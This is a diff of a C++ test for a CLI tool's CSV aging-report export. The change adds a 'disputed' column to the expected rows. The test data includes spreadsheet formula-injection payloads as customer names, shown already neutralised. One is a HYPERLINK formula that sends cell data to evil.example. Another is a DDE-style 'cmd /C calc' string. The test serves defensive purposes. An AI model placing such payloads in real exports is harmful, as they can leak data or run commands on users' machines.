@@ -43,12 +43,12 @@ TEST_CASE("The aging CSV neutralises hostile customer names and keeps negative a
     const CliRun r = runCli("--db " + q(db) + " aging --as-of 2026-06-30 --by account --format csv --buckets 30");
     REQUIRE(r.exitCode == 0);
     CHECK(r.out ==
-          "as_of,account,name,currency,current,1-30,31+,unapplied,total\r\n"
+          "as_of,account,name,currency,current,1-30,31+,unapplied,total,disputed\r\n"
           "2026-06-30,H1,\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"Click\"\")\",GBP,100.00,0.00,0.00,"
-          "0.00,100.00\r\n"
-          "2026-06-30,H2,\"'@SUM(1+1)*cmd|' /C calc'!A0\",GBP,0.00,200.00,0.00,0.00,200.00\r\n"
-          "2026-06-30,H3,\"'-2+3 Trading\",GBP,0.00,300.00,0.00,-500.00,-200.00\r\n"
-          "2026-06-30,Total,,GBP,100.00,500.00,0.00,-500.00,100.00\r\n");
+          "0.00,100.00,0.00\r\n"
+          "2026-06-30,H2,\"'@SUM(1+1)*cmd|' /C calc'!A0\",GBP,0.00,200.00,0.00,0.00,200.00,0.00\r\n"
+          "2026-06-30,H3,\"'-2+3 Trading\",GBP,0.00,300.00,0.00,-500.00,-200.00,0.00\r\n"
+          "2026-06-30,Total,,GBP,100.00,500.00,0.00,-500.00,100.00,0.00\r\n");
 }
 
 TEST_CASE("The aging workbook holds hostile names as text, never as formulas", "[export][xlsx]") {
